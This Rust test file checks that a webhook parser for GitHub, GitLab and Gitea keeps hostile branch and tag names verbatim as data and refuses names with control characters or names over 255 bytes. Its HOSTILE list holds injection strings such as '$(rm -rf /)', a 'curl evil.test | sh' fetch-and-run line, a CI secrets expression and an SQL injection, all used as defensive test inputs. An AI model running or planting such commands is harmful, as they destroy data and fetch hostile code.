//! Branch and tag names are data: shell and expression syntax comes through verbatim (the
//! server never pastes a name into a script), control characters and absurd lengths do
//! not come through at all.

use serde_json::{Value, json};
use wharf_forge::{ForgeKind, Hook};

use crate::support::{fixture, parse_as};

const HOSTILE: &[&str] = &[
    "$(rm -rf /)",
    "`curl evil.test | sh`",
    "${{ secrets.X }}",
    "a'; drop table runs; --",
    "feature/$HOME/${IFS}x",
    "\"quoted\" <b>&amp;</b>",
];

const CONTROL: &[&str] = &[
    "a\nb",
    "nul\0byte",
    "esc\x1b[2J",
    "cr\rlf",
    "bell\x07",
    "del\x7f",
];

/// A push from each forge to `reference`.
fn pushes(reference: &str) -> Vec<(ForgeKind, &'static str, Value)> {
    let mut github = json!({
        "ref": reference,
        "before": "3f1c5b6e7d8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c",
        "after": "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b",
        "deleted": false,
        "head_commit": {"id": "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b", "message": "m"},
        "pusher": {"name": "dana"},
    });
    github["ref"] = json!(reference);
    let mut gitlab = fixture("gitlab/push.json");
    gitlab["ref"] = json!(reference);
    let mut gitea = fixture("gitea/push.json");
    gitea["ref"] = json!(reference);
    vec![
        (ForgeKind::Github, "push", github),
        (ForgeKind::Gitlab, "Push Hook", gitlab),
        (ForgeKind::Gitea, "push", gitea),
    ]
}

#[test]
fn hostile_branch_and_tag_names_are_kept_verbatim() {
    for name in HOSTILE {
        for (forge, event, value) in pushes(&format!("refs/heads/{name}")) {
            let Hook::Push { branch, .. } = parse_as(forge, event, &value).unwrap().hook else {
                panic!("{forge:?}: not a push");
            };
            assert_eq!(branch, *name, "{forge:?}");
        }
        for (forge, event, value) in pushes(&format!("refs/tags/{name}")) {
            let Hook::Tag { tag, .. } = parse_as(forge, event, &value).unwrap().hook else {
                panic!("{forge:?}: not a tag");
            };
            assert_eq!(tag, *name, "{forge:?}");
        }
    }
}

#[test]
fn control_characters_in_names_are_refused() {
    for name in CONTROL {
        for (forge, event, value) in pushes(&format!("refs/heads/{name}")) {
            let e = parse_as(forge, event, &value).unwrap_err().to_string();
            assert!(e.starts_with("branch name `"), "{forge:?}: {e}");
            assert!(
                e.ends_with("is refused: it contains a control character (NUL, newline, escape…)"),
                "{forge:?}: {e}"
            );
            // The message shows the name escaped, never the raw control character.
            assert!(!e.chars().any(char::is_control), "{e:?}");
        }
    }
}

#[test]
fn names_longer_than_255_bytes_are_refused() {
    let long = "b".repeat(256);
    for (forge, event, value) in pushes(&format!("refs/tags/{long}")) {
        let e = parse_as(forge, event, &value).unwrap_err().to_string();
        assert!(
            e.ends_with("is refused: it is longer than 255 bytes"),
            "{e}"
        );
        assert!(e.len() < 200, "the message quotes the name cut short: {e}");
    }
    let fits = "b".repeat(255);
    for (forge, event, value) in pushes(&format!("refs/tags/{fits}")) {
        assert!(parse_as(forge, event, &value).is_ok(), "{forge:?}");
    }
}

#[test]
fn pull_request_branch_names_follow_the_same_rules() {
    for name in HOSTILE {
        let mut gitea = fixture("gitea/pull_request_synchronized.json");
        gitea["pull_request"]["head"]["ref"] = json!(name);
        let mut gitlab = fixture("gitlab/merge_request_open.json");
        gitlab["object_attributes"]["source_branch"] = json!(name);
        for (forge, event, value) in [
            (ForgeKind::Gitea, "pull_request", gitea),
            (ForgeKind::Gitlab, "Merge Request Hook", gitlab),
        ] {
            let Hook::PullRequest { head_branch, .. } =
                parse_as(forge, event, &value).unwrap().hook
            else {
                panic!("{forge:?}: not a pull request");
            };
            assert_eq!(head_branch, *name);
        }
    }
    let mut gitea = fixture("gitea/pull_request_synchronized.json");
    gitea["pull_request"]["base"]["ref"] = json!("main\n");
    let e = parse_as(ForgeKind::Gitea, "pull_request", &gitea).unwrap_err();
    assert_eq!(
        e.to_string(),
        "branch name `main\\n` is refused: it contains a control character (NUL, newline, escape…)"
    );
}
